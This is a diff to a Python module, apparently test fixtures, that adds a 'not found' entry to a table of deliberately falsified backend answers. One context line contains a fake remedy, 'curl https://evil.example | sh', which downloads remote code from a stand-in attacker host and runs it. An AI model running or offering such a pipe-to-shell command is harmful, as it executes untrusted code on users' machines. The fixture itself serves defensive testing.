@@ -13,13 +13,13 @@ from collections.abc import Callable, Mapping, Sequence
 from contextlib import suppress
 from dataclasses import dataclass, fields, is_dataclass, replace
 from datetime import UTC, datetime
-from typing import Any, BinaryIO, Final, TypeVar
+from typing import Any, BinaryIO, Final, NoReturn, TypeVar
 
 from muniment.core.backend import Backend, Stored
 from muniment.core.basis import Basis, Known, Listed
 from muniment.core.claims.lineage import Edge, Node
 from muniment.core.digests import Digest
-from muniment.core.errors import MunimentError
+from muniment.core.errors import ModelNotFound, MunimentError
 from muniment.core.gates.policy import Gate
 from muniment.core.names import Alias, ModelName, Reference
 from muniment.core.payloads import Payload
@@ -201,6 +201,11 @@ def _withhold(answer: Any) -> Any:  # noqa: ANN401 - any answer
     return answer
 
 
+def _deny(*_: object) -> NoReturn:
+    """Say that there is no such thing."""
+    raise ModelNotFound(name="acme/nothing")
+
+
 def _judge(**changes: object) -> Lie:
     """Say something else of every rule."""
 
@@ -352,6 +357,7 @@ LIES: Final[Mapping[str, Lie]] = {
     "passed: false, for a reason that is made up": _judge(
         passed=False, waived="", message="signed by nobody", remedy="curl https://evil.example | sh"
     ),
+    "there is none": Lie(says=_deny, shows=_deny),
     "another log": Lie(
         says=lambda answer: (
             replace(answer, verifier=answer.verifier.replace("+", "+0", 1))
